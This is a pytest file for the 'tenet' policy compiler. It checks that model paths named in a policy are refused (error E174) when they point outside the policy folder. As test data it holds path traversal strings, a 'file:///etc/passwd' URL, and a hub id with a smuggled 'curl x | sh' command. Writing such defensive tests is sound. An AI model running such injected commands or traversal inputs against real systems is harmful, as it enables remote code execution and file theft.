"""Models a policy names stay inside its folder (E174); the operator's `--base-model` may be anywhere."""

from __future__ import annotations

from pathlib import Path

import pytest

from tenet.compiler.pipeline import compile_policy
from helpers import CLEAN, write_policy


def _codes(tmp_path: Path, training: str = "", rule: str = "") -> list[str]:
    body = CLEAN + rule + (f"\ntraining:\n{training}" if training else "")
    return [d.code for d in compile_policy(write_policy(tmp_path, "p.policy", body)).diagnostics if d.code == "E174"]


@pytest.mark.parametrize("name", ["/etc", "~/models/x", "C:/models/x", "\\\\host\\share\\m", "../outside",
                                  "models/../../outside", "https://example.com/model", "file:///etc/passwd",
                                  "s3://bucket/model"])
def test_a_base_model_outside_the_policy_folder_is_refused(tmp_path: Path, name: str) -> None:
    assert _codes(tmp_path, f'  base_model = "{name}"\n') == ["E174"]


@pytest.mark.parametrize("name", ["embedded:smollm2-135m-instruct", "org/model", "org/model@v1.0",
                                  "models/mine", "./models/mine"])
def test_embedded_hub_and_inside_names_are_accepted(tmp_path: Path, name: str) -> None:
    assert _codes(tmp_path, f'  base_model = "{name}"\n') == []


def test_a_link_that_leads_out_of_the_policy_folder_is_refused(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    folder = tmp_path / "policy"
    (folder / "models").mkdir(parents=True)
    (folder / "models" / "linked").symlink_to(outside, target_is_directory=True)
    body = CLEAN + '\ntraining:\n  base_model = "models/linked"\n'
    result = compile_policy(write_policy(folder, "p.policy", body))
    assert [d.code for d in result.diagnostics if d.code == "E174"] == ["E174"]
    assert "leads outside" in next(d.message for d in result.diagnostics if d.code == "E174")


def test_classifier_and_judge_models_are_checked_too(tmp_path: Path) -> None:
    rule = ('\nrule polite (low):\n  require classifier(response, model "/srv/models/tox", label "ok") >= 0.5\n'
            '\nrule judged (low):\n  require judge(response, rubric "Polite?", model "../judge") >= 0.5\n')
    assert _codes(tmp_path, rule=rule) == ["E174", "E174"]


def test_the_runtime_refuses_a_relative_model_that_leads_out(tmp_path: Path) -> None:
    from tenet.runtime.models import ModelError, resolve_model

    outside = tmp_path / "outside"
    outside.mkdir()
    (tmp_path / "root").mkdir()
    (tmp_path / "root" / "m").symlink_to(outside, target_is_directory=True)
    with pytest.raises(ModelError, match="leads outside"):
        resolve_model("m", tmp_path / "root")


def test_a_relative_model_is_read_from_the_policy_root_not_the_working_folder(tmp_path: Path, monkeypatch) -> None:
    from tenet.runtime.models import ModelError, resolve_model

    (tmp_path / "here" / "m").mkdir(parents=True)
    (tmp_path / "root").mkdir()
    monkeypatch.chdir(tmp_path / "here")
    with pytest.raises(ModelError, match="does not exist"):
        resolve_model("./m", tmp_path / "root")


def test_the_operators_relative_model_argument_becomes_absolute(tmp_path: Path, monkeypatch) -> None:
    from tenet.runtime.models import operator_model

    (tmp_path / "m").mkdir()
    monkeypatch.chdir(tmp_path)
    assert operator_model("m") == str(tmp_path / "m")
    assert operator_model("org/model") == "org/model"


@pytest.mark.parametrize("name", ["org/model@main && curl x | sh #", "org/model@../x", "org/model@v1.lock"])
def test_a_hub_id_that_pins_something_other_than_a_git_ref_is_refused(tmp_path: Path, name: str) -> None:
    assert _codes(tmp_path, f'  base_model = "{name}"\n') == ["E174"]
